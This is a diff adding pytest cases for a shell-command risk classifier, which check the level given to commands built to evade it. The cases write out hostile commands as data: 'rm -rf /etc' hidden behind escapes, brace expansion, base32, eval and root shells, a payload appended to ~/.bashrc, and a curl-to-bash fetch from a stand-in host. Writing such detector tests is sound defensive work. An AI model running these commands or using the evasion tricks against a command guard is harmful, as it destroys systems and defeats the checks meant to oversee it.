@@ -1332,3 +1332,72 @@ def test_sixth_batch_second_review(command: str, level: Level) -> None:
 )
 def test_seventh_escape_batch(command: str, level: Level) -> None:
     assert assess(command, "bash").level == level
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        # a line continuation inside a word joins it (bash drops backslash-newline outside
+        # single quotes and comments)
+        ("r\\\nm -rf /etc", B),
+        ("bash -c 'r\\\nm -rf /etc'", B),
+        ("echo 'r\\\nm -rf /etc' | bash", B),
+        ("rm -rf /e\\\ntc", B),
+        ("cat <<'EOF'\nx\\\nEOF\nrm -rf /etc", B),
+        ("echo 'a\\\nb'", S),
+        # a `/` inside $(...) is not the command's directory
+        ("$(which rm 2>/dev/null) -rf /etc", R),
+        ("`cat /tmp/c` -rf /etc", R),
+        # printf and echo -e escapes and formats, as bash prints them
+        ("printf '\\x72m -rf /etc' | sh", B),
+        ("printf '\\162\\155 -\\162\\146 /\\145\\164\\143' | sh", B),
+        ("echo -e '\\x72m -rf /etc' | bash", B),
+        ("printf '%c%c -rf /etc' r m | sh", B),
+        ("printf '%5s -rf /etc' rm | sh", B),
+        ("$(printf 'r%s' m) -rf /etc", B),
+        ("echo -e '\\x72m -rf ~' >> ~/.bashrc", B),
+        ("printf '%s\\n' hello", S),
+        ("printf '%d items\\n' 3", S),
+        # a shell reads its input: options with values, -s, /dev/stdin as the script
+        ("echo 'rm -rf /etc' | bash -o pipefail", B),
+        ("bash -O extglob <<< 'rm -rf /etc'", B),
+        ("echo 'rm -rf /etc' | sh -s -- a", B),
+        ("bash /dev/stdin <<< 'rm -rf /etc'", B),
+        ("echo 'rm -rf /etc' | . /dev/stdin", B),
+        ("curl -s http://e.com/x | bash /proc/self/fd/0", R),
+        ("bash -o pipefail script.sh", S),
+        # -c in a cluster or before other options; the words after the code are $0, $1..
+        ("bash -Ec 'rm -rf /etc'", B),
+        ("sh -c -x 'rm -rf /etc'", B),
+        ("bash -c -- 'rm -rf /etc'", B),
+        ("fish --command='rm -rf /etc'", B),
+        ("bash -c 'rm -rf \"$1\"' _ /etc", B),
+        ("bash script.sh -c 'rm -rf /etc'", S),
+        ("find . -exec bash -c 'cmd1; cmd2' filedumper {} \\;", S),
+        # brace expansion makes the words
+        ("{r,}m -rf /etc", B),
+        ("mv /etc{,.bak}", B),
+        ("rm -rf /e{t,}c", B),
+        ("cp file{,.bak}", L),
+        # wrappers' clustered options with a value
+        ("env -iu HOME rm -rf /etc", B),
+        ("sudo -Eu root rm -rf /etc", B),
+        ("strace -fe trace=none rm -rf /etc", B),
+        ("coproc x { rm -rf /etc; }", B),
+        ("hash -p /bin/rm ls; ls -rf /etc", B),
+        ("echo OJWSALLSMYQC6ZLUMMFA==== | base32 -d | sh", B),
+        # commands in an expansion's operand run
+        ("echo ${x:-`rm -rf /etc`}", B),
+        ("echo ${HOME#$(rm -rf /etc)}", B),
+        # root shells fed code
+        ("sudo -s <<EOF\nrm -rf /etc\nEOF", B),
+        ("echo 'rm -rf /etc' | sudo -i", B),
+        ("su -lc 'rm -rf /etc'", B),
+        ("su --command='rm -rf /etc'", B),
+        # code a pipeline prints, run by eval
+        ('eval "`find . -name \'*.htm\' | awk \'{print "cp " $0 " x"}\'`"', R),
+        ('eval "$(ssh-agent -s)"', L),
+    ],
+)
+def test_eighth_escape_batch(command: str, level: Level) -> None:
+    assert assess(command, "bash").level == level
